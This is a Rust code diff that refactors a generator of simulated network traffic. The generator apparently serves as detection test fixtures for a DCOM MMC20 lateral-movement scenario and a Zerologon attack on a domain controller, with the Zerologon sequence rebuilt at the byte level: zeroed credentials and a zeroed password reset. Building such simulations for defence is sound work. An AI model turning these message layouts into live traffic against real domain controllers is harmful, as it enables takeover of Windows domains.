+    iface_ptr(&mut r, &objref);
     r.align(4);
     r.u16(0); // EXCEPINFO wCode
     r.u16(0);
@@ -1315,18 +1214,12 @@ fn a12_dcom_mmc20() -> World {
     let doc = "0000a002-2008-0f1c-5d6e-7f8091a2b3c4";
     let view = "0000a003-2008-0f1c-5d6e-7f8091a2b3c4";
     let a = w.conn((WS, 51601), (MEMBER, 135), 0x3c00_0001, 0x3c00_1001, le);
-    w.handshake(a);
-    w.wait(400);
-    w.bind_tcp(a, &ISCMACTIVATOR, 5840, 300, 0x000c_a101, "135");
-    w.wait(300);
+    handshake_bind(&mut w, a, &ISCMACTIVATOR, 0x000c_a101, [400, 300, 300]);
     let objref = activation_objref(CLSID_MMC20, IID_IDISPATCH);
     let mut s = Buf::new(le);
     orpcthis(&mut s, "4a5b6c7d-8e9f-4a0b-9c1d-2e3f40516273");
     s.u32(0);
-    ptr(&mut s);
-    s.u32(objref.len() as u32);
-    s.u32(objref.len() as u32);
-    s.bytes(&objref);
+    iface_ptr(&mut s, &objref);
     let r = create_instance_response(
         IID_IDISPATCH,
         app,
@@ -1337,14 +1230,10 @@ fn a12_dcom_mmc20() -> World {
     w.wait(500);
     w.close(a);
     let b = w.conn((WS, 51602), (MEMBER, 49712), 0x3c00_2001, 0x3c00_3001, le);
-    w.handshake(b);
-    w.wait(300);
-    w.bind_tcp(b, &IDISPATCH, 5840, 250, 0x000c_a102, "49712");
-    w.wait(300);
+    handshake_bind(&mut w, b, &IDISPATCH, 0x000c_a102, [300, 250, 300]);
     let ids_reply = |call_id: u32| {
         let mut r = Buf::new(le);
-        r.u32(0);
-        r.u32(0);
+        orpcthat(&mut r);
         r.u32(1);
         r.u32(call_id);
         r.u32(0);
@@ -1397,13 +1286,20 @@ fn st_req_challenge(le: bool, challenge: [u8; 8]) -> Vec<u8> {
     s.b
 }
 
-fn st_authenticate3(le: bool, cred: [u8; 8]) -> Vec<u8> {
+/// The parameters NetrServerAuthenticate3 and NetrServerPasswordSet2 start with:
+/// PrimaryName, AccountName DC1$, SecureChannelType ServerSecureChannel, ComputerName.
+fn dc1_secure_channel(le: bool) -> Buf {
     let mut s = Buf::new(le);
     ptr(&mut s);
     s.wstr(r"\\DC1");
     s.wstr("DC1$");
     s.u16(6); // ServerSecureChannel
     s.wstr("DC1");
+    s
+}
+
+fn st_authenticate3(le: bool, cred: [u8; 8]) -> Vec<u8> {
+    let mut s = dc1_secure_channel(le);
     s.bytes(&cred);
     s.u32(0x212f_ffff);
     s.b
@@ -1427,10 +1323,7 @@ fn a13_zerologon_windows() -> World {
     let mut w = World::new(33);
     let le = true;
     let a = w.conn((WS, 51701), (DC1, 49668), 0x3d00_0001, 0x3d00_1001, le);
-    w.handshake(a);
-    w.wait(300);
-    w.bind_tcp(a, &NETLOGON, 5840, 200, 0x000d_a101, "49668");
-    w.wait(200);
+    handshake_bind(&mut w, a, &NETLOGON, 0x000d_a101, [300, 200, 200]);
     let mut id = 2;
     for st in [0xc000_0022, 0xc000_0022, 0xc000_0022, 0] {
         let mut r = Buf::new(le);
@@ -1449,16 +1342,8 @@ fn a13_zerologon_windows() -> World {
     }
     w.close(a);
     let b = w.conn((WS, 51702), (DC1, 49668), 0x3d00_2001, 0x3d00_3001, le);
-    w.handshake(b);
-    w.wait(300);
-    w.bind_tcp(b, &NETLOGON, 5840, 200, 0x000d_a102, "49668");
-    w.wait(200);
-    let mut s = Buf::new(le);
-    ptr(&mut s);
-    s.wstr(r"\\DC1");
-    s.wstr("DC1$");
-    s.u16(6);
-    s.wstr("DC1");
+    handshake_bind(&mut w, b, &NETLOGON, 0x000d_a102, [300, 200, 200]);
+    let mut s = dc1_secure_channel(le);
     s.bytes(&[0; 8]);
     s.u32(0);
     s.bytes(&[0; 516]);
